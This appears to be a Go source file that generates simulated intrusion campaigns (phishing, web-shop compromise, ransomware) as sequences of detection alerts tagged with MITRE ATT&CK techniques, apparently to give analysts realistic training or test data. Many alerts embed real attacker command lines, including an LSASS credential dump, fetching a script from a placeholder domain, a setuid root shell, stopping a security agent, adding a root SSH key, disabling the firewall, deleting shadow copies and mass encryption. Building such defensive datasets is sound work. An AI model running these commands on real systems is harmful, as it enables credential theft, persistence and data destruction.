package campaign

// where a step of an intrusion shows.
type where int

const (
	atDesk   where = iota // at the victim's workstation
	onServer              // at the server, come to from outside
	across                // at the server, come to from the victim's workstation
)

// step is one event of an intrusion.
type step struct {
	where   where
	pattern *pattern
}

// at is the cast as a step at w sees it: the machine it happened on, from
// where it was reached, and by whom, where that can be known.
func (c cast) at(w where) cast {
	switch w {
	case onServer:
		c.on, c.person = c.server, person{}
	case across:
		c.on, c.remote = c.server, c.desk.ip
	}
	return c
}

// plots are told in turn. Each stays with one attacker, one victim and one
// server, so that a careful analyst finds the thread.
var plots = []plot{{"file", phishing}, {"web", webServer}, {"file", ransom}}

// plot is the steps of an intrusion, and the duty of the server it is after.
type plot struct {
	server string
	steps  []step
}

// sign is the pattern of one step.
func sign(p product, id, title string, severity int, tactic, technique, name, process, command string) *pattern {
	return &pattern{product: p, id: id, title: title, severity: severity, tactic: tactic, technique: technique, means: name, process: process, command: command}
}

var phishing = []step{
	{atDesk, sign(mail, "HM-205", "Mail with a macro document from a look-alike domain delivered", 3, "TA0001", "T1566.001", "Spearphishing Attachment", "", "")},
	{atDesk, sign(endpoint, "AE-4101", "Office application started PowerShell", 4, "TA0002", "T1059.001", "PowerShell", "powershell.exe", `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA= # {file}.docm`)},
	{atDesk, sign(network, "LN-410", "Regular beacons to a domain seen for the first time", 4, "TA0011", "T1071.001", "Web Protocols", "", "")},
	{atDesk, sign(endpoint, "AE-4120", "Scheduled task runs a script from the user's profile", 3, "TA0003", "T1053.005", "Scheduled Task", "schtasks.exe", `schtasks /create /tn OneDriveSync /tr "wscript C:\Users\{user}\AppData\Roaming\{file}.js" /sc minute /mo 30`)},
	{atDesk, sign(endpoint, "AE-4303", "Credentials read from LSASS memory", 5, "TA0006", "T1003.001", "LSASS Memory", "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Users\Public\{file}.dmp full`)},
	{atDesk, sign(identity, "KI-52", "Unusual number of service tickets requested", 4, "TA0006", "T1558.003", "Kerberoasting", "", "")},
	{across, sign(endpoint, "AE-4410", "Service created from another machine", 4, "TA0008", "T1021.002", "SMB/Windows Admin Shares", "services.exe", `cmd.exe /c C:\Windows\{file}.exe -s {server}`)},
	{across, sign(endpoint, "AE-4501", "Many documents packed into an archive with a password", 3, "TA0009", "T1560.001", "Archive via Utility", "7z.exe", `7z.exe a -pS3cret -mhe C:\ProgramData\{file}.7z D:\shares\finance`)},
	{onServer, sign(network, "LN-455", "Large upload to a cloud storage nobody else uses", 4, "TA0010", "T1567.002", "Exfiltration to Cloud Storage", "", "")},
}

var webServer = []step{
	{onServer, sign(waf, "MW-902", "Targeted scan for known weaknesses of the web shop", 3, "TA0043", "T1595.002", "Vulnerability Scanning", "", "")},
	{onServer, sign(waf, "MW-977", "Template injection reached the application", 4, "TA0001", "T1190", "Exploit Public-Facing Application", "", "")},
	{onServer, sign(endpoint, "AE-5101", "Web server process started a shell", 5, "TA0003", "T1505.003", "Web Shell", "sh", `sh -c "id; uname -a; cat /etc/passwd"`)},
	{onServer, sign(endpoint, "AE-5110", "Program downloaded by a service account", 4, "TA0011", "T1105", "Ingress Tool Transfer", "curl", `curl -fsSL http://{domain}/{file}.sh -o /tmp/.{file}`)},
	{onServer, sign(endpoint, "AE-5122", "Setuid binary used to become root", 4, "TA0004", "T1548.001", "Setuid and Setgid", "find", `find . -exec /bin/sh -p \; -quit`)},
	{onServer, sign(endpoint, "AE-5130", "Security agent stopped", 4, "TA0112", "T1562.001", "Disable or Modify Tools", "systemctl", `systemctl stop aegis-agent`)},
	{onServer, sign(endpoint, "AE-5141", "SSH key added for root", 3, "TA0003", "T1098.004", "SSH Authorized Keys", "sh", `sh -c "echo ssh-ed25519 AAAAC3NzaC1 >> /root/.ssh/authorized_keys"`)},
	{onServer, sign(endpoint, "AE-5200", "Cryptocurrency miner running", 4, "TA0040", "T1496.001", "Compute Hijacking", "kworkerds", `/tmp/.{file} -o stratum+tcp://{domain}:4444 --cpu-max 90`)},
	{onServer, sign(network, "LN-470", "Connection to a mining pool", 3, "TA0040", "T1496.001", "Compute Hijacking", "", "")},
}

var ransom = []step{
	{atDesk, sign(identity, "KI-30", "Login from two distant places within an hour", 3, "TA0001", "T1078", "Valid Accounts", "", "")},
	{atDesk, sign(identity, "KI-33", "Remote access by a user who never used it", 3, "TA0001", "T1133", "External Remote Services", "", "")},
	{atDesk, sign(endpoint, "AE-4205", "Domain trusts and controllers listed", 3, "TA0007", "T1482", "Domain Trust Discovery", "nltest.exe", `nltest /domain_trusts /all_trusts`)},
	{across, sign(endpoint, "AE-4420", "Remote desktop login from a workstation", 3, "TA0008", "T1021.001", "Remote Desktop Protocol", "svchost.exe", `C:\Windows\System32\svchost.exe -k termsvcs`)},
	{across, sign(endpoint, "AE-4430", "Firewall of the system switched off", 4, "TA0112", "T1562.004", "Disable or Modify System Firewall", "netsh.exe", `netsh advfirewall set allprofiles state off`)},
	{across, sign(endpoint, "AE-4601", "Volume shadow copies deleted", 5, "TA0040", "T1490", "Inhibit System Recovery", "vssadmin.exe", `vssadmin delete shadows /all /quiet`)},
	{across, sign(endpoint, "AE-4610", "Mass encryption of files", 5, "TA0040", "T1486", "Data Encrypted for Impact", "{file}.exe", `C:\Users\Public\{file}.exe --path D:\shares --ext .locked`)},
}
